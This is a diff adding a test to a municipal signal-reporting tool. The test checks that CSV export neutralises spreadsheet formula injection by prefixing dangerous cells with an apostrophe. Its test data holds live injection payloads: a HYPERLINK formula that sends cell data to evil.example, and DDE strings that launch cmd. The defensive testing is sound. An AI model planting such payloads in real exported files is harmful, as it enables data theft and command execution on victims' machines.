@@ -4,6 +4,7 @@ import { createMemoryLogger } from "../src/core/logger.ts";
 import type { IncomingMessage, Reply } from "../src/core/message.ts";
 import { isoWeek, type Signal } from "../src/signals/model.ts";
 import { findPersonalData, redact } from "../src/signals/pii.ts";
+import { csvCell } from "../src/signals/report.ts";
 import { Store } from "../src/storage/store.ts";
 import { realEngine, realKnowledge } from "./helpers.ts";
 import { scoreCorpus } from "./signals/pii-score.ts";
@@ -290,6 +291,39 @@ describe("for the gemeente", () => {
     expect(csv[1]).toBe(
       '"2026-W47","Trend","Vapen / middelen","Zoetermeer","Seghwaert","","vapes ""gedeeld"" bij het hek"',
     );
+  });
+
+  it("neutralises CSV cells that a spreadsheet would run as a formula", async () => {
+    const { say, store } = await setup();
+    const attacks = [
+      '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+      "+31 6 cmd|' /C calc'!A0",
+      "-2+3",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "\t=1+1",
+      "\r=1+1",
+    ];
+    await seed(
+      store,
+      attacks.map((text) => ({ text })),
+    );
+    const lines = (await say("/signaal export csv", "gem")).text.split("\n").slice(1);
+    const lastCells = [
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""klik"")"`,
+      `"'+31 6 cmd|' /C calc'!A0"`,
+      `"'-2+3"`,
+      `"'@SUM(1+1)*cmd|' /C calc'!A0"`,
+      `"'\t=1+1"`,
+      `"'\r=1+1"`,
+    ];
+    expect(lines).toHaveLength(lastCells.length);
+    for (const cell of lastCells)
+      expect(
+        lines.filter((l) => l.endsWith(`,${cell}`)),
+        cell,
+      ).toHaveLength(1);
+    expect(csvCell("vapes bij het hek")).toBe('"vapes bij het hek"');
+    expect(csvCell("een - in het midden = gewoon")).toBe('"een - in het midden = gewoon"');
   });
 
   it("deletes signals after the retention period and logs only the count", async () => {
